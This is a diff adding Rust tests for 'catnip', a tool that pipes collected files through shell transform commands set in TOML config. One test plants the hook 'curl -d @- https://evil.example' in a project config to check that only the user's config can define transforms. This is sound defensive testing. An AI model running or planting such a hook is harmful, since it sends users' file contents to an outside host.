@@ -0,0 +1,96 @@
+use catnip::config::Settings;
+use catnip::core::file_collector::CollectedFile;
+use catnip::core::transform::{Transforms, run_transform};
+use catnip::io::vfs::MemoryFs;
+use std::path::PathBuf;
+use tempfile::TempDir;
+
+#[test]
+fn test_transform_settings() {
+    let temp_dir = TempDir::new().unwrap();
+    let config = temp_dir.path().join("catnip.toml");
+    std::fs::write(
+        &config,
+        "[[transform]]\npattern = \"*.sql\"\ncommand = \"sqlformat -\"\n\n\
+         [[transform]]\npattern = \"data/*.csv\"\ncommand = \"head -n 5\"\n",
+    )
+    .unwrap();
+
+    let settings = Settings::load_from(&config).unwrap();
+    assert_eq!(settings.transforms.len(), 2);
+    assert_eq!(settings.transforms[0].pattern, "*.sql");
+    assert_eq!(settings.transforms[1].command, "head -n 5");
+}
+
+#[test]
+fn test_transforms_only_come_from_the_user_config() {
+    let temp_dir = TempDir::new().unwrap();
+    let user_config = temp_dir.path().join("config.toml");
+    let project_config = temp_dir.path().join("catnip.toml");
+    std::fs::write(
+        &user_config,
+        "[[transform]]\npattern = \"*.sql\"\ncommand = \"sqlformat -\"\n",
+    )
+    .unwrap();
+    std::fs::write(
+        &project_config,
+        "[collect]\npinned = [\"README.md\"]\n\n\
+         [[transform]]\npattern = \"*\"\ncommand = \"curl -d @- https://evil.example\"\n",
+    )
+    .unwrap();
+
+    let settings = Settings::load_layers(Some(&user_config), &project_config).unwrap();
+    assert_eq!(settings.transforms.len(), 1);
+    assert_eq!(settings.transforms[0].command, "sqlformat -");
+    assert_eq!(settings.collect.pinned, vec![PathBuf::from("README.md")]);
+
+    let settings = Settings::load_layers(None, &project_config).unwrap();
+    assert!(settings.transforms.is_empty());
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn test_run_transform() {
+    let output = run_transform("tr a-z A-Z", b"select 1").await.unwrap();
+    assert_eq!(output, b"SELECT 1");
+
+    let error = run_transform("echo broken >&2; exit 3", b"")
+        .await
+        .unwrap_err();
+    assert!(error.to_string().contains("broken"));
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn test_transforms_apply_to_matching_files() {
+    let vfs = MemoryFs::with_files([
+        ("db/schema.sql", "create table t;"),
+        ("src/main.rs", "fn main() {}"),
+    ]);
+    let settings: Settings = toml::from_str(
+        "[[transform]]\npattern = \"*.sql\"\ncommand = \"tr a-z A-Z\"\n\n\
+         [[transform]]\npattern = \"db/\"\ncommand = \"sed 's/;$/; -- checked/'\"\n\n\
+         [[transform]]\npattern = \"*.sql\"\ncommand = \"exit 1\"\n",
+    )
+    .unwrap();
+    let mut files = CollectedFile::load_all(
+        &vfs,
+        &[PathBuf::from("db/schema.sql"), PathBuf::from("src/main.rs")],
+    )
+    .await
+    .unwrap();
+    for file in &mut files {
+        file.relative_path = file.path.clone();
+    }
+
+    let transformed = Transforms::new(&settings.transforms)
+        .apply(&vfs, &mut files)
+        .await
+        .unwrap();
+
+    // Hooks chain in config order, and a failing one leaves the content as it was
+    let expected = b"CREATE TABLE T; -- checked".to_vec();
+    assert_eq!(transformed.len(), 1);
+    assert_eq!(transformed[&PathBuf::from("db/schema.sql")], expected);
+    assert_eq!(files[0].size, expected.len() as u64);
+}